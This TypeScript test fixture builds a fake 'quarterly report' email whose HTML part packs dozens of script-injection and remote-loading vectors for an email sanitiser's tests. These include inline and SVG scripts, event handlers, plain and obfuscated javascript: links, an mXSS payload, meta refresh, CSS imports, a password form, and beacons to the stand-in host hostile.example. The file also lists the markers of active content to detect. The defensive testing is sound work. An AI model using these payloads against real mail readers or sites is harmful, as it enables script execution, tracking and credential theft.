// One HTML message that tries every common way to run script or load remote content, for the
// sanitiser and reader tests. Each vector loads its own URL under https://hostile.example/ (or
// sets window.__biffPwned to its name), so a test can say exactly which vector leaked.
import { quotedPrintable } from './mime-encode.ts';

/** Host of every URL the message would make a browser fetch. RFC 2606: never resolves. */
export const HOSTILE_HOST = 'hostile.example';

/** The hostile message and what a test should check after sanitising and rendering it. */
export interface HostileMessage {
  raw: string;
  size: number;
  subject: string;
  messageId: string;
  /** The text/html part before transfer encoding. */
  html: string;
  /** Vector name → URL it makes the browser load without a click. None may be requested. */
  autoLoadUrls: Record<string, string>;
  /** Ordinary links: harmless to keep as links (opening needs a click). */
  linkUrls: string[];
  /** Text that must still be visible after sanitising. */
  visibleText: string[];
  /**
   * Substrings (lower-case) that must not appear in the sanitised HTML: they only occur in the
   * active parts (script, handlers, javascript: URLs, frames, forms, meta refresh, CSS imports).
   */
  activeMarkers: string[];
}

const CRLF = '\r\n';

/** Builds the hostile message; `to` defaults to the generator's tester. */
export function hostileHtmlMessage(to = 'Biff Tester <tester@biff.test>'): HostileMessage {
  const u = (vector: string, ext = 'png'): string => `https://${HOSTILE_HOST}/${vector}.${ext}`;
  const autoLoadUrls: Record<string, string> = {
    'img-src': u('img-src'),
    'img-srcset': u('img-srcset'),
    'picture-source': u('picture-source'),
    'css-background': u('css-background'),
    'css-style-attribute': u('css-style-attribute'),
    'css-import': u('css-import', 'css'),
    'css-font-face': u('css-font-face', 'woff2'),
    'css-list-style': u('css-list-style'),
    // Not an image: never loaded, not even with remote images allowed.
    'css-clip-path': u('css-clip-path', 'svg'),
    'link-stylesheet': u('link-stylesheet', 'css'),
    'body-background': u('body-background'),
    'table-background': u('table-background'),
    'input-image': u('input-image'),
    'video-poster': u('video-poster'),
    'audio-src': u('audio-src', 'mp3'),
    'svg-image': u('svg-image'),
    'object-data': u('object-data', 'swf'),
    'embed-src': u('embed-src', 'swf'),
    'iframe-src': u('iframe-src', 'html'),
    'script-src': u('script-src', 'js'),
    'meta-refresh': u('meta-refresh', 'html'),
    'base-href-img': `https://${HOSTILE_HOST}/base/relative.png`,
    prefetch: u('prefetch', 'html'),
    'exfil-script': u('exfil-script', 'gif'),
  };
  const a = autoLoadUrls;
  const pwn = (name: string): string =>
    `window.__biffPwned='${name}';new Image().src='https://${HOSTILE_HOST}/exec/${name}.gif'`;
  const visibleText = [
    'Quarterly figures are attached below.',
    'Please review the numbers before Friday.',
    'Regards, the finance team',
  ];
  const linkUrls = [`https://${HOSTILE_HOST}/normal-link`];

  const html = `<!DOCTYPE html>
<html><head>
<meta charset="utf-8">
<meta http-equiv="refresh" content="0; url=${a['meta-refresh']}">
<base href="https://${HOSTILE_HOST}/base/">
<link rel="stylesheet" href="${a['link-stylesheet']}">
<link rel="prefetch" href="${a.prefetch}">
<script src="${a['script-src']}"></script>
<script>${pwn('inline-script')}</script>
<style>
  @import url("${a['css-import']}");
  @font-face { font-family: Leak; src: url(${a['css-font-face']}); }
  body { font-family: Leak, sans-serif; }
  .bg { background: #fff url('${a['css-background']}') no-repeat; }
  ul.leak { list-style-image: url(${a['css-list-style']}); }
  h1 { clip-path: url(${a['css-clip-path']}#clip); }
  .expr { width: expression(alert('ie-expression')); }
</style>
</head>
<body background="${a['body-background']}" onload="${pwn('body-onload')}">
<h1 class="bg">Quarterly report</h1>
<p>${visibleText[0]}</p>
<img src="${a['img-src']}" alt="chart" onerror="${pwn('img-onerror')}">
<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" srcset="${a['img-srcset']} 2x" alt="">
<picture><source srcset="${a['picture-source']}"><img src="relative.png" alt="base href"></picture>
<div style="background-image: url('${a['css-style-attribute']}'); padding: 4px;">${visibleText[1]}</div>
<ul class="leak"><li>Item</li></ul>
<table background="${a['table-background']}"><tr><td onmouseover="${pwn('td-onmouseover')}">Cell</td></tr></table>
<a href="javascript:${pwn('javascript-href')}">Open the report</a>
<a href="jav&#x09;ascript:${pwn('javascript-obfuscated')}">Obfuscated link</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Data link</a>
<a href="${linkUrls[0]}" target="_blank">Normal link</a>
<form action="https://${HOSTILE_HOST}/form-action" method="post"><input name="password" type="password"><input type="image" src="${a['input-image']}"><button formaction="javascript:${pwn('formaction')}">Log in</button></form>
<iframe src="${a['iframe-src']}" width="1" height="1"></iframe>
<iframe srcdoc="&lt;script&gt;${pwn('iframe-srcdoc')}&lt;/script&gt;"></iframe>
<object data="${a['object-data']}" type="application/x-shockwave-flash"></object>
<embed src="${a['embed-src']}" type="application/x-shockwave-flash">
<video poster="${a['video-poster']}"><source src="${a['audio-src']}"></video>
<audio src="${a['audio-src']}" autoplay></audio>
<svg width="10" height="10" onload="${pwn('svg-onload')}"><image href="${a['svg-image']}" width="10" height="10"/><script>${pwn('svg-script')}</script></svg>
<math><mtext><table><mglyph><style><img src=x onerror="${pwn('mxss')}"></style></mglyph></table></mtext></math>
<div onclick="${pwn('div-onclick')}" tabindex="0" autofocus onfocus="${pwn('autofocus-onfocus')}">Focusable</div>
<noscript><img src="${a['exfil-script']}"></noscript>
<p>${visibleText[2]}</p>
</body></html>`;

  const activeMarkers = [
    '<script',
    'javascript:',
    'onload=',
    'onerror=',
    'onclick=',
    'onfocus=',
    'onmouseover=',
    '<iframe',
    '<object',
    '<embed',
    '<form',
    'formaction',
    'http-equiv',
    '@import',
    'expression(',
    '<base',
    '__biffpwned',
  ];

  const subject = 'Quarterly report (hostile HTML test)';
  const messageId = `<hostile-html-1@${HOSTILE_HOST}>`;
  const boundary = '----=_hostile_boundary_1';
  const text = `${visibleText.join(CRLF + CRLF)}${CRLF}`;
  const raw = [
    `From: Finance <finance@${HOSTILE_HOST}>`,
    `To: ${to}`,
    `Subject: ${subject}`,
    'Date: Tue, 05 Mar 2024 10:15:00 +0000',
    `Message-ID: ${messageId}`,
    'MIME-Version: 1.0',
    `Content-Type: multipart/alternative; boundary="${boundary}"`,
    '',
    `--${boundary}`,
    'Content-Type: text/plain; charset=us-ascii',
    'Content-Transfer-Encoding: 7bit',
    '',
    text,
    `--${boundary}`,
    'Content-Type: text/html; charset=utf-8',
    'Content-Transfer-Encoding: quoted-printable',
    '',
    quotedPrintable(html),
    `--${boundary}--`,
    '',
  ].join(CRLF);
  return {
    raw,
    size: raw.length,
    subject,
    messageId,
    html,
    autoLoadUrls,
    linkUrls,
    visibleText,
    activeMarkers,
  };
}
